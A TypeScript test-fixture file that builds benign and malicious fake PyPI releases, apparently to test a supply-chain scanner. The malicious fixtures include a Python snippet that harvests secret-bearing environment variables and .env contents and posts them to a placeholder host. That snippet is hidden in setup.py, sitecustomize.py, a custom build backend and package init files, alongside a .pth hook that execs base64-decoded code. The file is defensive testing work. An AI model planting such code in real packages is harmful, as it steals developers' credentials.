import { sdist, wheel, type SdistSpec, type WheelSpec } from './build.ts'
import type { PypiRelease } from './pypi.ts'

const OLD = '2021-03-04T09:00:00.123456Z'
const OLDER = '2019-05-06T09:00:00.123456Z'

function wheelRelease(spec: WheelSpec, publishedAt: string, more: Partial<PypiRelease> = {}): PypiRelease {
  const python = spec.requiresPython === undefined ? {} : { requiresPython: spec.requiresPython }
  return { built: wheel(spec), publishedAt, ...python, ...more }
}

function sdistRelease(spec: SdistSpec, publishedAt: string, more: Partial<PypiRelease> = {}): PypiRelease {
  return { built: sdist(spec), publishedAt, ...more }
}

/** Ordinary projects: pure and platform wheels, several versions, a yanked one, sdists of both formats. */
export function ordinaryPypi(): PypiRelease[] {
  return [
    wheelRelease({ name: 'plain-six', version: '1.0' }, OLDER),
    wheelRelease({ name: 'plain-six', version: '1.1', requiresPython: '>=3.7' }, OLD),
    wheelRelease({ name: 'plain-six', version: '1.2' }, OLD, { yanked: 'broken on Sundays' }),
    sdistRelease({ name: 'plain-six', version: '1.1' }, OLD),
    wheelRelease(
      { name: 'Plain.App', version: '2.0', requires: ['plain-six>=1.0', 'plain-native; extra == "fast"'] },
      OLD,
    ),
    wheelRelease(
      {
        name: 'plain-native',
        version: '3.0',
        tag: 'cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64',
        files: NATIVE,
      },
      OLD,
    ),
    wheelRelease(
      {
        name: 'plain-native',
        version: '3.0',
        tag: 'py3-none-any',
        files: { 'plain_native/__init__.py': 'fast = False\n' },
      },
      OLD,
    ),
    wheelRelease(
      {
        name: 'plain-tool',
        version: '1.0',
        files: { 'plain_tool.py': 'def main():\n    print("plain")\n' },
        entryPoints: '[console_scripts]\nplain-tool = plain_tool:main\n',
      },
      OLD,
    ),
    sdistRelease({ name: 'plain-old', version: '0.9', format: 'zip' }, OLDER),
  ]
}

const NATIVE = {
  'plain_native/__init__.py': 'from ._speed import fast\n',
  'plain_native/_speed.cpython-311-x86_64-linux-gnu.so': Buffer.from(
    '\u007fELF, but only by its first bytes',
    'latin1',
  ),
}

/** Inert re-enactments of attacks, as `attackNpm`. */
export function attackPypi(now: Date = new Date()): PypiRelease[] {
  const young = new Date(now.getTime() - 2 * 3_600_000).toISOString()
  return [
    sdistRelease({ name: 'steal-setup', version: '1.0', files: { 'setup.py': STEAL_SETUP } }, OLD),
    wheelRelease({ name: 'steal-import', version: '1.0', files: { 'steal_import/__init__.py': STEAL_ENV } }, OLD),
    wheelRelease(
      {
        name: 'steal-startup',
        version: '1.0',
        files: { 'steal_startup/__init__.py': '', 'steal_startup_init.pth': PTH },
      },
      OLD,
    ),
    wheelRelease({ name: 'site-hook', version: '1.0', files: { 'sitecustomize.py': STEAL_ENV } }, OLD),
    wheelRelease(
      {
        name: 'foreign-files',
        version: '1.0',
        files: { 'foreign_files/__init__.py': '', 'pip/_vendor/extra.py': STEAL_ENV },
      },
      OLD,
    ),
    wheelRelease({ name: 'two-metadata', version: '1.0' }, OLD, { metadata: OTHER_METADATA }),
    wheelRelease({ name: 'lying-digest', version: '1.0' }, OLD, { sha256: '01'.repeat(32) }),
    wheelRelease({ name: 'brand-new', version: '0.0.1' }, young),
    wheelRelease(
      { name: 'grown-theft', version: '1.0', files: { 'grown_theft/__init__.py': 'version = "1.0"\n' } },
      OLD,
    ),
    wheelRelease({ name: 'grown-theft', version: '1.1', files: { 'grown_theft/__init__.py': STEAL_ENV } }, young),
    sdistRelease(
      { name: 'own-backend', version: '1.0', files: { 'pyproject.toml': BACKEND, 'be/backend.py': STEAL_ENV } },
      OLD,
    ),
    wheelRelease(
      { name: 'url-requirement', version: '1.0', requires: ['helper @ https://files.invalid/helper-1.0.zip'] },
      OLD,
    ),
    wheelRelease(
      { name: 'hidden-twin', version: '1.0', members: [{ path: 'hidden_twin/__init__.py', content: STEAL_ENV }] },
      OLD,
    ),
  ]
}

/** Asks for a dependency that the wheel itself does not name. */
const OTHER_METADATA = Buffer.from(
  'Metadata-Version: 2.1\nName: two-metadata\nVersion: 1.0\nRequires-Dist: plain-six\n',
)

/** The Python twin of the article's example. */
const STEAL_ENV = `import json
import os
import re
import urllib.request

wanted = re.compile(r"KEY|TOKEN|SECRET|DATABASE_URL")
found = {name: value for name, value in os.environ.items() if wanted.search(name)}

try:
    with open(".env") as handle:
        found["dotenv"] = handle.read()
except OSError:
    pass

try:
    urllib.request.urlopen("https://collect.invalid/v1/report", data=json.dumps(found).encode(), timeout=1)
except OSError:
    pass
`

const STEAL_SETUP = `from setuptools import setup

${STEAL_ENV}
setup(name="steal-setup", version="1.0")
`

/** One line of a .pth file that starts another interpreter at every start of Python. */
const PTH = `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"])
`

const BACKEND = `[build-system]
requires = []
build-backend = "backend"
backend-path = ["be"]
`
